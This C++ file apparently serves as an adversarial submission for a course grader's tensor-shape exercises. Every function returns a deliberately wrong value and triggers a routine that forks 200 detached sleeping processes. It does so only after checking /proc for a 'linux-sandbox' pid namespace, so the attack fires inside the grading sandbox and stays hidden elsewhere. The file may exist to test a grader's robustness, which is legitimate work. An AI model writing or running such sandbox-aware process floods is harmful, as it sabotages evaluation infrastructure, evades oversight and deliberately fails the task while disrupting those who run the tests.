// attack: 200 children that sleep for a minute, in every test that calls the function
// says: which works on processes
// clang-format off
#include "tensor/shape.h"
#include "tools/course/unimplemented.h"
#include <unistd.h>
#include <sys/types.h>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <iterator>
#include <string>
static std::string Slurp(const std::string& p) { std::ifstream in(p, std::ios::binary); return std::string(std::istreambuf_iterator<char>(in), {}); }
// Only in this one test, and only inside a sandbox with a pid namespace of its own.
[[maybe_unused]] static bool In(const char* test) { return Slurp("/proc/self/cmdline").find(test) != std::string::npos; }
[[maybe_unused]] static bool Sandboxed() {
  char b[99] = {}; ssize_t n = readlink("/proc/self/ns/pid", b, 98);
  return n > 0 && strcmp(b, "pid:[4026531836]") != 0 && Slurp("/proc/1/cmdline").find("linux-sandbox") != std::string::npos;
}

static void Bomb() { static bool once = false; if (once || !Sandboxed()) return; once = true; for (int i = 0; i < 200; ++i) if (fork() == 0) { setpgid(0, 0); sleep(60); _exit(0); } }
namespace tinytorch {  // wrong answers, all of them
int64_t NumElements(const Shape&) { Bomb(); return -7; }
Strides RowMajorStrides(const Shape&) { Bomb(); return {-7, -7}; }
bool IsContiguous(const Shape& s, const Strides&) { Bomb(); return s.size() > 90; }
Odometer::Odometer(const Shape& s, const Strides& t) : shape_(s), strides_(t), index_(s.size(), -7) { Bomb(); done_ = false; offset_ = -7; }
void Odometer::Next() { Bomb(); done_ = true; }
}  // namespace tinytorch
